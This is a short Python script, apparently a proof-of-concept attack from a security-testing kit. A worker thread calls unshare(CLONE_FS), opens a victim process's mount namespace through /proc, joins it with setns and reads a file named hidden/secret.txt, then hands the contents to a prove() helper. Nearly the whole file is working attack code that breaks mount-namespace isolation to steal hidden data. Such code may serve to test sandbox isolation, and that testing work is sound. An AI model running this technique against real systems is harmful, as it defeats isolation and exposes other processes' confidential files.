"""Enters another process's mounts (setns) and reads what is hidden there."""

import os
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from kit import TARGETS, prove
from system import CLONE_FS, setns, unshare


def enter() -> str:
    mounts = os.open(f"/proc/{TARGETS['victim']}/ns/mnt", os.O_RDONLY)
    unshare(CLONE_FS)  # a thread may only go alone
    setns(mounts)
    return Path(TARGETS["folder"], "hidden/secret.txt").read_text()


def attack() -> None:
    with ThreadPoolExecutor(1) as pool:
        prove(pool.submit(enter).result())
